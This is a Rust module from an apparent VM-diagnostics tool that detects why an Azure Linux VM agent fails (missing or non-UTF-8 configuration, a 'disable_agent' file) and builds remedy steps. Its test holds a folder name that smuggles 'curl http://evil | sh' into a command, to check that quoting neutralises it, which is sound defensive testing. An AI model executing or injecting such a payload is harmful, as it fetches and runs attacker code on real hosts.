//! What keeps an agent from working though its service runs.

use super::super::finding::documented;
use super::super::{Case, Evidence, Finding, Remediation, Withheld};
use crate::guest::{AgentPresence, ConfigurationFault, Looked, Machine, Survey};
use crate::script::shell::line;
use crate::vm::OsFamily;

/// A file of this name in the agent's folder has it sleep for ever.
const SLEEP: &str = "disable_agent";
/// Where the configuration of the agent may stand; without one it ends at once.
const CONFIGURATIONS: [&str; 3] =
    ["/etc/waagent.conf", "/usr/share/defaults/waagent/waagent.conf", "/usr/share/oem/waagent.conf"];

/// Why the agent would not work, if something tells it so.
pub(super) fn finding(machine: &Machine, subject: &str) -> Option<Finding> {
    let configuration = machine.agent.configuration.as_ref();
    if let Some((fault, read)) = configuration.and_then(|read| Some((read.value.fault?, read))) {
        let what = match fault {
            ConfigurationFault::Empty => "is empty",
            ConfigurationFault::NotUtf8 => "is not UTF-8",
        };
        let name = read.place.document.escape_debug();
        let message = format!("`{name}` {what}: the VM agent cannot read it, and ends at its start");
        let remedy = Remediation::new("put the configuration of the package back in its place, in UTF-8");
        return Some(told(message, subject).at(&read.place).remedied_by(remedy));
    }
    if let Some(folder) = asleep(machine) {
        let file = format!("{folder}/{SLEEP}");
        let message = format!("the file `{}` has the VM agent sleep for ever", file.escape_debug());
        let remedy = Remediation::new("take the file away, then restart the service of the VM agent")
            .step(format!("as root: `{}`", line(["rm", "--", &file])))
            .step("look whether extensions are allowed on the VM, too: `allowExtensionOperations`");
        return Some(told(message, subject).remedied_by(remedy));
    }
    let survey = &machine.survey.as_ref()?.value;
    let gone = machine.family() == Some(OsFamily::Linux) && configuration.is_none();
    if gone && is_lacking(machine, survey) {
        let message =
            "there is no `/etc/waagent.conf`: the VM agent ends at its start with `Missing configuration`";
        let remedy = Remediation::new("put the configuration of the package back in its place");
        return Some(
            told(message.to_owned(), subject)
                .with(Evidence::text("not there", CONFIGURATIONS.join(", ")))
                .remedied_by(remedy),
        );
    }
    None
}

/// Whether there is an agent and, beside other files of its kind, no configuration of it: of a tree that was copied in parts
/// it may have been left out.
fn is_lacking(machine: &Machine, survey: &Survey) -> bool {
    let has_agent = matches!(machine.agent_presence(), AgentPresence::Present(_));
    let is_whole = survey.live
        || survey.looked.iter().any(|(path, looked)| path.starts_with("/etc/") && *looked == Looked::Read);
    has_agent && is_whole && CONFIGURATIONS.iter().all(|path| survey.is_absent(path))
}

/// Leaves where the folder of the agent could not be looked into.
pub(super) fn looked(case: &Case<'_>, machine: &Machine) -> Result<(), Withheld> {
    let Ok(survey) = case.survey() else { return Ok(()) };
    let library = machine.agent_library();
    let known = survey.folders.contains_key(library) || survey.is_absent(library);
    if known || machine.family() == Some(OsFamily::Windows) { Ok(()) } else { Err(case.unread(library)) }
}

fn asleep(machine: &Machine) -> Option<&str> {
    let survey = &machine.survey.as_ref()?.value;
    let names = survey.folders.get(machine.agent_library())?;
    let there = names.iter().any(|name| name == SLEEP);
    there.then(|| machine.agent_library())
}

fn told(message: String, subject: &str) -> Finding {
    Finding::new(message, subject).citing(documented(&["WALA", "TSAGENT"]))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::guest::{Configuration, Read};
    use crate::input::{Place, Pointer};

    #[test]
    fn a_folder_from_the_input_stays_one_word_of_the_command() {
        let read = |document: &str| Place { document: document.into(), pointer: Pointer::root() };
        let folder = "/x; curl http://evil | sh; '";
        let mut survey = Survey::default();
        survey.folders.insert(folder.to_owned(), vec![SLEEP.to_owned()]);
        let mut configuration = Configuration::default();
        configuration.state("Lib.Dir", Some(folder));
        let mut machine =
            Machine { survey: Some(Read { value: survey, place: read("s") }), ..Machine::default() };
        machine.agent.configuration = Some(Read { value: configuration, place: read("c") });
        let found = finding(&machine, "vm").unwrap();
        let steps = found.remediation.unwrap().steps;
        assert_eq!(steps[0], "as root: `rm -- '/x; curl http://evil | sh; '\\''/disable_agent'`");
    }
}
